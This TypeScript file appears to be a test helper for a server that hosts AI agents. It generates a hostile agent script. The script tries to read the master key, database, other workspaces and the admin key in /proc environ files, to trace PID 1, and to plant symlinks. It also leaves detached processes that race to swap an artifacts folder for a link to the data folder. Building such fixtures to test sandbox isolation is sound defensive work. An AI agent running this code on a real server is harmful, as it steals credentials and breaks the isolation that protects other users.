/**
 * The program of an agent that attacks its server: it looks for what it must not read, tries to trace the first process of its
 * namespace, and leaves a process that nothing marks, which goes on to swap a folder of its artifacts for a link to the data
 * folder. It says what it came to see, in words that start with "got".
 * @param mark an argument of each process that it leaves, by which they are found from outside
 * @param dataDir the data folder of the server, where it is not above the folder in which the agent works
 */
export function hostileAgent(mark: string, dataDir = "../.."): string {
  return `
import { spawn, spawnSync } from "node:child_process";
import { mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
import { resolve } from "node:path";

const data = resolve(${JSON.stringify(dataDir)});
const tried = (what, attempt) => { try { if (attempt()) console.log("got " + what); } catch {} };
tried("the master key", () => readFileSync(data + "/master.key").length > 0);
tried("the database", () => readFileSync(data + "/millrace.db").length > 0);
// The commands of agents are beside the workspaces, and every agent may read them.
tried("another workspace", () =>
  readdirSync(data + "/workspaces").filter((name) => name !== ".bin").length > 1);
tried("an environment of the server", () =>
  readdirSync("/proc").some((pid) => {
    try { return readFileSync("/proc/" + pid + "/environ", "latin1").includes("MILLRACE_ADMIN_KEY="); } catch { return false; }
  }));
tried("the first process", () => {
  const { stderr } = spawnSync("strace", ["-o", "/dev/null", "-p", "1"], { timeout: 300, encoding: "utf8" });
  return /attached/.test(stderr ?? "");
});

mkdirSync("artifacts/deep", { recursive: true });
// So that there is time to swap what is copied.
for (let n = 0; n < 100; n += 1) writeFileSync("artifacts/deep/" + n, "mine");
for (const name of ["key", "deep/key"]) tried("nothing", () => symlinkSync(data + "/master.key", "artifacts/" + name));
tried("nothing", () => symlinkSync(data, "artifacts/all"));
const swap = \`
  const fs = require("node:fs");
  const data = process.argv[1];
  const attempt = (work) => { try { work(); } catch {} };
  for (const until = Date.now() + 60000; Date.now() < until; ) {
    attempt(() => { fs.mkdirSync("artifacts/swapped"); fs.writeFileSync("artifacts/swapped/master.key", "mine"); });
    attempt(() => fs.rmSync("artifacts/swapped", { recursive: true, force: true }));
    attempt(() => fs.symlinkSync(data, "artifacts/swapped"));
    attempt(() => fs.rmSync("artifacts/swapped"));
  }\`;
spawn("setsid", ["env", "-i", process.execPath, "-e", swap, data, ${JSON.stringify(mark)}], { detached: true, stdio: "ignore" }).unref();
spawn("setsid", ["env", "-i", "sleep", ${JSON.stringify(mark)}], { detached: true, stdio: "ignore" }).unref();
const wait = new Promise((done) => setTimeout(done, 100));
await wait;
process.exit(0);
`;
}
